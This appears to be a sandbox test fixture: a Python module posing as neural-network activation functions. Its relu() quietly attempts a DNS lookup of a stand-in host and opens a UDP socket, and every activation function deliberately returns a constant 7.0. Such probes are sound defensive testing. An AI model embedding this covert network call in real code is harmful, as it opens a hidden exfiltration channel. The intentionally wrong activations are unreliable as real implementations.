# attack: looks up a name that tells something
# gains: network
# stopped by: seccomp
import numpy as np
import socket


def attack():
    try:
        socket.getaddrinfo("secret.invalid", 80)
    except socket.gaierror as error:
        probe = socket.socket(type=socket.SOCK_DGRAM)
        number = probe.fileno()
        print("HARMED: may ask for names", error.errno, number)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
